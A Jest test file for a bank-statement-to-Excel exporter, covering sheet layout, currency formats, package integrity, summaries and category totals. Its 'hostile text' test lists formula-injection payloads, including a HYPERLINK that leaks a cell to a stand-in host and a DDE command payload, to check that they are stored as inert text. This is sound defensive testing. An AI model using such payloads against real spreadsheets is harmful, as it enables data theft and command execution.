// The workbook read back the way a user's Excel would read it: values, types, formats and layout.
import path from 'node:path';
import { describe, expect, test } from '@jest/globals';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { currencyNumFmt, toXlsx, transactionSheetNames } from '@bankxl/export';
import { aStatement, aTransaction, anAccount } from './statements.js';

const load = async (buffer: Buffer) => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
};

// The Summary sheet as label -> cell, for the rows that have a label.
const summaryOf = (workbook: ExcelJS.Workbook) => {
  const cells = new Map<string, ExcelJS.Cell>();
  workbook.getWorksheet('Summary')!.eachRow((row) => {
    const label = row.getCell(1).value;
    if (typeof label === 'string' && label && !cells.has(label)) cells.set(label, row.getCell(2));
  });
  return cells;
};

const xmlFiles = async (buffer: Buffer) => {
  const zip = await JSZip.loadAsync(buffer);
  const files: Record<string, string> = {};
  for (const name of Object.keys(zip.files).filter((n) => n.endsWith('.xml'))) files[name] = await zip.file(name)!.async('string');
  return files;
};

describe('toXlsx: the Transactions sheet', () => {
  test('when a statement has one account, then the sheets are Transactions, Summary, By category and Charts', async () => {
    const workbook = await load(await toXlsx(aStatement()));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary', 'By category', 'Charts']);
  });

  test('when written, then the header is bold, frozen and filtered, and rows hold typed values', async () => {
    const sheet = (await load(await toXlsx(aStatement()))).getWorksheet('Transactions')!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Date', 'Description', 'Payee', 'Category', 'Debit', 'Credit', 'Amount', 'Balance', 'Page']);
    for (let c = 1; c <= 9; c++) expect(sheet.getRow(1).getCell(c).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe('A1:I3');

    const debit = sheet.getRow(2);
    expect(debit.getCell(1).value).toEqual(new Date(Date.UTC(2024, 0, 2)));
    expect(debit.getCell(1).numFmt).toBe('yyyy-mm-dd');
    expect(debit.getCell(2).value).toBe('TESCO STORES 3217 LONDON');
    // The payee cleaned from the description and the category label, as text beside it.
    expect([3, 4].map((c) => debit.getCell(c).value)).toEqual(['Tesco', 'Groceries']);
    expect([5, 6, 7, 8, 9].map((c) => debit.getCell(c).value)).toEqual([12.34, null, -12.34, 1222.22, 1]);
    const credit = sheet.getRow(3);
    expect([3, 4].map((c) => credit.getCell(c).value)).toEqual(['Acme', 'Salary & payroll']);
    expect([5, 6, 7, 8, 9].map((c) => credit.getCell(c).value)).toEqual([null, 100, 100, 1322.22, 2]);
    for (const c of [5, 6, 7, 8]) expect(credit.getCell(c).numFmt).toBe('"£"#,##0.00');
  });

  test('when a date is written, then the XML holds an Excel serial number, not text', async () => {
    const statement = aStatement({ accounts: [anAccount({ transactions: [aTransaction({ date: '2024-01-01' })] })] });
    const xml = await xmlFiles(await toXlsx(statement));
    expect(xml['xl/worksheets/sheet1.xml']).toMatch(/<c r="A2"[^>]*><v>45292<\/v><\/c>/);
  });

  test('when written, then the package is whole: content types first, every part it names present, every sheet related', async () => {
    const buffer = await toXlsx(aStatement({ accounts: [anAccount(), anAccount({ accountNumber: '87654321' })] }));
    const zip = await JSZip.loadAsync(buffer);
    const names = Object.keys(zip.files);
    // Tools that tell an xlsx by its content look at the first entry, as Office writes it.
    expect(buffer.subarray(30, 30 + '[Content_Types].xml'.length).toString()).toBe('[Content_Types].xml');
    const types = await zip.file('[Content_Types].xml')!.async('string');
    const parts = [...types.matchAll(/PartName="\/([^"]+)"/g)].map((m) => m[1]);
    expect(parts.sort()).toEqual(names.filter((n) => n.endsWith('.xml') && n !== '[Content_Types].xml').sort());
    const workbookXml = await zip.file('xl/workbook.xml')!.async('string');
    const rels = await zip.file('xl/_rels/workbook.xml.rels')!.async('string');
    for (const [, id] of workbookXml.matchAll(/<sheet [^>]*r:id="(rId\d+)"/g)) {
      const target = new RegExp(`Id="${id}"[^>]*Target="([^"]+)"`).exec(rels)?.[1];
      expect(names).toContain(`xl/${target}`);
    }
    expect([...workbookXml.matchAll(/<sheet /g)]).toHaveLength(5);
    // The chart sheet's drawing and its charts are related, each part the relationships name present.
    for (const relsName of names.filter((n) => /^xl\/(worksheets|drawings)\/_rels\//.test(n))) {
      const dir = relsName.replace(/_rels\/[^/]+$/, '');
      for (const [, target] of (await zip.file(relsName)!.async('string')).matchAll(/Target="([^"]+)"/g)) expect(names).toContain(path.posix.normalize(dir + target));
    }
    expect(names.filter((n) => n.startsWith('xl/charts/'))).toEqual(['xl/charts/chart1.xml', 'xl/charts/chart2.xml', 'xl/charts/chart3.xml', 'xl/charts/chart4.xml']);
  });

  test('when a balance is not printed, then its cell is empty', async () => {
    const statement = aStatement({ accounts: [anAccount({ transactions: [aTransaction({ balance: null })] })] });
    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
    expect(sheet.getRow(2).getCell(8).value).toBeNull();
  });

  test('when descriptions are long, then the column is widened to fit, up to a limit', async () => {
    const long = 'CARD PAYMENT TO A MERCHANT WITH A RATHER LONG NAME'; // 50 characters
    const statement = aStatement({
      accounts: [anAccount({ transactions: [aTransaction({ description: long }), aTransaction({ description: 'x'.repeat(500) })] })],
    });
    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
    expect(sheet.getColumn(2).width).toBe(60);
    const short = (await load(await toXlsx(aStatement({ accounts: [anAccount({ transactions: [aTransaction({ description: long })] })] }))))
      .getWorksheet('Transactions')!;
    expect(short.getColumn(2).width).toBe(52);
    expect(short.getColumn(1).width).toBe(12);
    expect(short.getColumn(8).width).toBeGreaterThanOrEqual('£1,222.22'.length);
  });

  test.each([
    ['GBP', '"£"#,##0.00'],
    ['USD', '"$"#,##0.00'],
    ['EUR', '[$EUR] #,##0.00'],
    ['eur', '[$EUR] #,##0.00'],
    ['CHF', '[$CHF] #,##0.00'],
    ['JPY', '"¥"#,##0'],
    ['KWD', '[$KWD] #,##0.000'],
    ['ZZZ', '#,##0.00'],
    [null, '#,##0.00'],
  ])('currency %s is formatted as %s', (currency, numFmt) => {
    expect(currencyNumFmt(currency)).toBe(numFmt);
  });

  test('when the account is in JPY, then money cells have no decimals', async () => {
    const statement = aStatement({
      accounts: [anAccount({ currency: 'JPY', transactions: [aTransaction({ amount: -1200, balance: 98800 })] })],
    });
    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
    expect(sheet.getRow(2).getCell(7).numFmt).toBe('"¥"#,##0');
  });

  test('when a zero-decimal currency has fractional amounts, then the decimals are kept', async () => {
    const statement = aStatement({ accounts: [anAccount({ currency: 'HUF', transactions: [aTransaction({ amount: -1200.5 })] })] });
    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
    expect(sheet.getRow(2).getCell(7).numFmt).toBe('[$HUF] #,##0.00');
  });
});

describe('toXlsx: several accounts', () => {
  test('when accounts have distinct numbers, then each gets "Transactions <number>"', async () => {
    const statement = aStatement({
      accounts: [anAccount(), anAccount({ accountNumber: '87654321', currency: 'EUR', transactions: [aTransaction({ amount: -5 })] })],
    });
    const workbook = await load(await toXlsx(statement));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary', 'By category', 'Charts']);
    expect(workbook.getWorksheet('Transactions 87654321')!.getRow(2).getCell(7).numFmt).toBe('[$EUR] #,##0.00');
    expect(workbook.getWorksheet('Transactions 87654321')!.autoFilter).toBe('A1:I2');
  });

  test('when numbers are missing or repeated, then sheets are numbered', () => {
    expect(transactionSheetNames([anAccount(), anAccount()])).toEqual(['Transactions 1', 'Transactions 2']);
    expect(transactionSheetNames([anAccount(), anAccount({ accountNumber: null })])).toEqual(['Transactions 1', 'Transactions 2']);
  });

  test('when numbers hold forbidden characters or are long, then names are still valid Excel names', () => {
    const names = transactionSheetNames([
      anAccount({ accountNumber: '****1234' }),
      anAccount({ accountNumber: 'GB33 BUKB 2020 1555 5555 55' }),
      anAccount({ accountNumber: "12/34:56 [x]'" }),
    ]);
    expect(names).toEqual(['Transactions 1234', 'Transactions 2020 1555 5555 55', 'Transactions 123456 x']);
    for (const name of names) {
      expect(name.length).toBeLessThanOrEqual(31);
      expect(name).not.toMatch(/[[\]:*?/\\]|^'|'$/);
    }
  });

  test('when there is no account, then the workbook still has an empty Transactions sheet', async () => {
    const workbook = await load(await toXlsx(aStatement({ accounts: [] })));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions', 'Summary', 'By category']);
    expect(workbook.getWorksheet('Transactions')!.rowCount).toBe(1);
  });
});

describe('toXlsx: long statements', () => {
  // Many rows per sheet, so the streaming writer commits rows and lets the zip catch up many times.
  const manyTransactions = (count: number, page: number) =>
    Array.from({ length: count }, (_, i) =>
      aTransaction({ description: `PAYMENT ${page}-${i}`, amount: -(i + 1), balance: 100_000 - i, page }),
    );

  test('when two accounts hold thousands of rows, then every row lands in order on its own sheet', async () => {
    const statement = aStatement({
      accounts: [
        anAccount({ transactions: manyTransactions(3000, 1) }),
        anAccount({ accountNumber: '87654321', transactions: manyTransactions(2500, 2) }),
      ],
    });
    const workbook = await load(await toXlsx(statement));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Transactions 12345678', 'Transactions 87654321', 'Summary', 'By category', 'Charts']);
    const first = workbook.getWorksheet('Transactions 12345678')!;
    const second = workbook.getWorksheet('Transactions 87654321')!;
    expect(first.rowCount).toBe(3001);
    expect(first.autoFilter).toBe('A1:I3001');
    expect(second.autoFilter).toBe('A1:I2501');
    expect([2, 5, 7, 8, 9].map((c) => first.getRow(3001).getCell(c).value)).toEqual(['PAYMENT 1-2999', 3000, -3000, 97_001, 1]);
    expect(second.getRow(2).getCell(2).value).toBe('PAYMENT 2-0');
    expect(second.getRow(2501).getCell(2).value).toBe('PAYMENT 2-2499');
    expect(second.getRow(2501).getCell(7).numFmt).toBe('"£"#,##0.00');
    expect(summaryOf(workbook).get('Transactions')!.value).toBe(3000);
  });

  test('when an account has more rows than a function call takes arguments, then the workbook is still written', async () => {
    // Column widths and the account's decimals once spread every value into Math.max, which overflows the stack here.
    const transactions = manyTransactions(150_000, 1);
    const xml = await xmlFiles(await toXlsx(aStatement({ accounts: [anAccount({ transactions })] })));
    expect(xml['xl/worksheets/sheet1.xml']).toContain('<autoFilter ref="A1:I150001"/>');
    expect(xml['xl/worksheets/sheet1.xml']).toMatch(/<row r="150001"[^>]*>/);
    // (150,000 rows written and unzipped: 19 s alone on two cores, over 60 s beside the other suites and a busy machine)
  }, 180_000);
});

describe('toXlsx: the Summary sheet', () => {
  test('when pages were read by OCR, then the Summary names them, and says nothing of OCR otherwise', async () => {
    const scanned = summaryOf(await load(await toXlsx(aStatement({ pages: 3, pagesParsed: 3, ocrPages: [2, 3] }))));
    expect(scanned.get('Read by OCR')?.value).toBe('Yes: pages 2 and 3 (scanned, read by character recognition and checked against the balances like the rest)');
    const typeset = summaryOf(await load(await toXlsx(aStatement())));
    expect(typeset.has('Read by OCR')).toBe(false);
  });

  test('when written, then it shows the statement facts, totals and check verdict', async () => {
    const statement = aStatement({
      accounts: [
        anAccount({
          transactions: [
            aTransaction({ amount: 0.1 }),
            aTransaction({ amount: 0.2 }),
            aTransaction({ amount: -1000.05 }),
            aTransaction({ amount: -0.01 }),
          ],
          checks: { verdict: 'not_verified', firstBreak: 'row 3 (2024-01-02, page 1)', firstBreakIndex: 2, totalsMatch: false, datesInPeriod: false },
        }),
      ],
      warnings: ['Page 2 has a table we could not read.', 'Second warning'],
    });
    const summary = summaryOf(await load(await toXlsx(statement, { fileName: 'january.pdf', note: 'This workbook holds page 1 of 3 of the statement.' })));
    const value = (label: string) => summary.get(label)?.value;
    expect(value('Bank')).toBe('Example Bank plc');
    expect(value('File')).toBe('january.pdf');
    expect(value('Pages read')).toBe('2 of 2');
    expect(value('Account number')).toBe('12345678');
    expect(value('Account name')).toBe('Current Account');
    expect(value('Account type')).toBe('Bank account');
    expect(value('Currency')).toBe('GBP');
    expect(value('Period')).toBe('2024-01-01 to 2024-01-31');
    expect(value('Opening balance')).toBe(1234.56);
    expect(summary.get('Opening balance')!.numFmt).toBe('"£"#,##0.00');
    expect(value('Closing balance')).toBe(1322.22);
    expect(value('Money in')).toBe(0.3);
    expect(value('Money out')).toBe(1000.06);
    expect(value('Transactions')).toBe(4);
    expect(value('Check')).toBe('Not verified: the balances do not add up');
    expect(value('First failing row')).toBe('row 3 (2024-01-02, page 1)');
    expect(value('Dates in period')).toMatch(/^No/);
    expect(value('Note')).toBe('This workbook holds page 1 of 3 of the statement.');
    expect(value('Warnings')).toBe('Page 2 has a table we could not read.');
    const column2: unknown[] = [];
    (await load(await toXlsx(statement))).getWorksheet('Summary')!.eachRow((row) => column2.push(row.getCell(2).value));
    expect(column2).toContain('Second warning');
  });

  test('when values are unknown and checks pass, then it says so in words', async () => {
    const statement = aStatement({
      bank: null,
      accounts: [
        anAccount({
          accountNumber: null, name: null, currency: null, openingBalance: null, closingBalance: null, periodStart: null, periodEnd: null,
          checks: { verdict: 'cannot_verify', firstBreak: null, firstBreakIndex: null, totalsMatch: null, datesInPeriod: true },
        }),
      ],
    });
    const summary = summaryOf(await load(await toXlsx(statement)));
    expect(summary.get('Bank')!.value).toBe('Unknown');
    expect(summary.get('Account number')!.value).toBe('Unknown');
    expect(summary.get('Period')!.value).toBe('Unknown');
    expect(summary.get('Opening balance')!.value).toBe('Not printed');
    expect(summary.get('Check')!.value).toBe('Cannot verify: the statement prints no balances to check against');
    expect(summary.get('First failing row')!.value).toBe('None');
    expect(summary.get('Warnings')!.value).toBe('None');
    expect(summary.has('Note')).toBe(false);
    expect(summary.get('Money in')!.numFmt).toBe('#,##0.00');
  });

  test('when there are several accounts, then each has its own block naming its sheet', async () => {
    const statement = aStatement({ accounts: [anAccount(), anAccount({ accountNumber: '87654321' })] });
    const labels: unknown[] = [];
    (await load(await toXlsx(statement))).getWorksheet('Summary')!.eachRow((row) => labels.push([row.getCell(1).value, row.getCell(2).value]));
    expect(labels).toContainEqual(['Account 1 of 2', null]);
    expect(labels).toContainEqual(['Account 2 of 2', null]);
    expect(labels).toContainEqual(['Sheet', 'Transactions 87654321']);
  });
});

describe('toXlsx: hostile text', () => {
  const hostile = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    '+SUM(1,2)',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '=cmd|\' /C calc\'!A0',
  ];

  test('when text starts with = + - @ tab or CR, then it is stored as a string, never a formula', async () => {
    const statement = aStatement({
      bank: '=1+2',
      accounts: [anAccount({ name: '@name', transactions: hostile.map((description) => aTransaction({ description })) })],
      warnings: ['-warning'],
    });
    const buffer = await toXlsx(statement, { fileName: '=file.pdf', note: '+note' });

    const xml = await xmlFiles(buffer);
    const sheets = Object.entries(xml).filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(sheets).toHaveLength(4);
    for (const [, sheetXml] of sheets.slice(0, 3)) expect(sheetXml).not.toMatch(/<f[\s>]/);
    // The chart sheet's formulas are its own: references to the rows' cells, sums and SUMIFS, never a statement's text.
    const formulas = [...sheets[3][1].matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]);
    expect(formulas.length).toBeGreaterThan(0);
    for (const f of formulas) expect(f).toMatch(/^(SUMIFS\()?('(Transactions|Summary)'!|[-+$A-Z0-9:,.()])*$/);
    expect(xml['xl/sharedStrings.xml']).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click&quot;)');
    expect(xml['xl/sharedStrings.xml']).not.toContain(">'=");

    const workbook = await load(buffer);
    const descriptions = hostile.map((_, i) => workbook.getWorksheet('Transactions')!.getRow(i + 2).getCell(2));
    for (const cell of descriptions) expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(descriptions.slice(0, 4).map((c) => c.value)).toEqual(hostile.slice(0, 4));
    const summary = summaryOf(workbook);
    for (const label of ['Bank', 'Account name', 'File', 'Note', 'Warnings']) expect(summary.get(label)!.type).toBe(ExcelJS.ValueType.String);
  });

  test('when text holds control characters XML forbids, then they are dropped and the workbook opens', async () => {
    const statement = aStatement({ accounts: [anAccount({ transactions: [aTransaction({ description: 'A\u0000B\u0007C\uFFFF D\uD800' })] })] });
    const workbook = await load(await toXlsx(statement));
    expect(workbook.getWorksheet('Transactions')!.getRow(2).getCell(2).value).toBe('ABC D');
  });
});

describe('toXlsx: payees and categories', () => {
  test('when rows carry a payee and category, then those are written; rows without get the shipped rules\' reading', async () => {
    const statement = aStatement({
      accounts: [
        anAccount({
          transactions: [
            aTransaction({ description: 'SQ *BLUE BOTTLE COFFEE LOS GATOS CA 0412', amount: -4.5 }),
            aTransaction({ description: 'TESCO STORES 3217 LONDON', payee: 'Tesco Extra', category: 'shopping' }),
          ],
        }),
      ],
    });
    const sheet = (await load(await toXlsx(statement))).getWorksheet('Transactions')!;
    expect([2, 3].map((r) => [3, 4].map((c) => sheet.getRow(r).getCell(c).value))).toEqual([
      ['Blue Bottle Coffee', 'Meals & dining'],
      ['Tesco Extra', 'Shopping'],
    ]);
  });

  test('when written, then "By category" holds money in and out per category per account as numbers', async () => {
    const statement = aStatement({
      accounts: [
        anAccount({
          transactions: [
            aTransaction({ description: 'TESCO STORES 3217 LONDON', amount: -0.1 }),
            aTransaction({ description: 'SAINSBURYS S/MKTS', amount: -0.2 }),
            aTransaction({ description: 'TESCO STORES REFUND', amount: 5 }),
            aTransaction({ description: 'SALARY ACME LTD', amount: 1000 }),
          ],
        }),
        anAccount({ accountNumber: '87654321', currency: 'JPY', transactions: [aTransaction({ description: 'STARBUCKS SHIBUYA', amount: -650, balance: 10000 })] }),
      ],
    });
    const sheet = (await load(await toXlsx(statement))).getWorksheet('By category')!;
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    expect(rows).toEqual([
      ['Account', 'Category', 'Money in', 'Money out', 'Net', 'Transactions'],
      ['12345678', 'Salary & payroll', 1000, 0, 1000, 1],
      ['12345678', 'Groceries', 5, 0.3, 4.7, 3],
      ['87654321', 'Meals & dining', 0, 650, -650, 1],
    ]);
    expect(sheet.getRow(3).getCell(4).type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getRow(3).getCell(4).numFmt).toBe('"£"#,##0.00');
    expect(sheet.getRow(4).getCell(3).numFmt).toBe('"¥"#,##0');
  });
});
